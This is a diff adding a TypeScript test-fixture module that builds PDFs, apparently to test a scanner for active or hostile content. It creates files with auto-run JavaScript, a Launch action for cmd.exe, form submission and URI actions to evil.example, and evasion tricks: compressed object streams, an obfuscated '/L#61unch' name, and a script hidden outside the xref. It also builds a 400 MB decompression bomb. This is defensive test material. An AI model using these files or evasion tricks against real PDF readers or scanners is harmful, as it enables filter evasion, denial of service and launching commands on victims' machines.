@@ -1,0 +1,98 @@
+import { deflateSync } from 'node:zlib'
+import { type PDFArray, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
+
+/** An agreement as a word processor would make it. */
+export async function makePdf({ pages = 1 } = {}): Promise<Uint8Array<ArrayBuffer>> {
+  return saved(await newDocument(pages))
+}
+
+async function newDocument(pages = 1): Promise<PDFDocument> {
+  const document = await PDFDocument.create()
+  for (let page = 0; page < pages; page += 1) document.addPage([300, 200]).drawText(`Page ${page + 1}`)
+  return document
+}
+
+/** With `packed`, objects lie compressed in streams, where no search for words finds them. */
+const saved = async (document: PDFDocument, packed = false) =>
+  new Uint8Array(await document.save({ useObjectStreams: packed }))
+
+export async function encryptedPdf(): Promise<Uint8Array<ArrayBuffer>> {
+  const document = await newDocument()
+  document.encrypt({ userPassword: '', ownerPassword: 'owner' })
+  return saved(document)
+}
+
+type Change = (document: PDFDocument) => void
+
+const set: (key: string, value: object) => Change = (key, value) => (document) =>
+  document.catalog.set(PDFName.of(key), document.context.obj(value as never))
+
+const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }
+
+const CHANGES = {
+  'script on opening': set('OpenAction', script),
+  'script of a page': (document) => document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: script })),
+  'script by name': set('Names', { JavaScript: { Names: [PDFString.of('a'), script] } }),
+  launch: set('OpenAction', { S: 'Launch', F: PDFString.of('cmd.exe') }),
+  submit: (document) => annotate(document, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
+  'embedded file': set('Names', { EmbeddedFiles: { Names: [PDFString.of('a'), { Type: 'Filespec', EF: {} }] } }),
+  'address on opening': set('OpenAction', { S: 'URI', URI: PDFString.of('https://evil.example') }),
+  destination: (document) => document.catalog.set(PDFName.of('OpenAction'), toFirstPage(document)),
+  'go to page': (document) =>
+    document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'GoTo', D: toFirstPage(document) })),
+  link: (document) => annotate(document, { S: 'URI', URI: PDFString.of('https://portal.example/JavaScript/Launch') }),
+} satisfies Record<string, Change>
+
+function toFirstPage(document: PDFDocument): PDFArray {
+  return document.context.obj([document.getPage(0).ref, 'Fit'])
+}
+
+function annotate(document: PDFDocument, action: Record<string, unknown>): void {
+  const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: action }
+  document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([link] as never))
+}
+
+export type PdfTrick = keyof typeof CHANGES | 'packed away' | 'spelled otherwise' | 'in no list of objects' | 'bomb'
+
+/** A PDF that does something, or tries not to be seen doing it. */
+export async function activePdf(trick: PdfTrick): Promise<Uint8Array<ArrayBuffer>> {
+  switch (trick) {
+    case 'packed away': {
+      const document = await newDocument()
+      const action = document.context.register(document.context.obj(script))
+      document.catalog.set(PDFName.of('OpenAction'), action)
+      return saved(document, true)
+    }
+    case 'spelled otherwise':
+      return replaced(await activePdf('launch'), '/Launch', '/L#61unch')
+    case 'in no list of objects':
+      // Behind a comment sign, where only a reader that goes by offsets would find it.
+      return replaced(
+        await makePdf(),
+        '\nxref',
+        '\n% 99 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\nxref',
+      )
+    case 'bomb':
+      return bomb()
+    default: {
+      const document = await newDocument()
+      CHANGES[trick](document)
+      return saved(document)
+    }
+  }
+}
+
+function replaced(pdf: Uint8Array, found: string, by: string): Uint8Array<ArrayBuffer> {
+  const before = Buffer.from(pdf).toString('latin1')
+  if (!before.includes(found)) throw new Error(`the PDF has no ${found}`)
+  return new Uint8Array(Buffer.from(before.replace(found, by), 'latin1'))
+}
+
+/** An object stream of 400 kB that becomes 400 MB. */
+function bomb(): Uint8Array<ArrayBuffer> {
+  const packed = deflateSync(Buffer.alloc(400_000_000), { level: 9 })
+  const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`
+  return new Uint8Array(
+    Buffer.concat([Buffer.from(head, 'latin1'), packed, Buffer.from('\nendstream\nendobj\n%%EOF\n')]),
+  )
+}
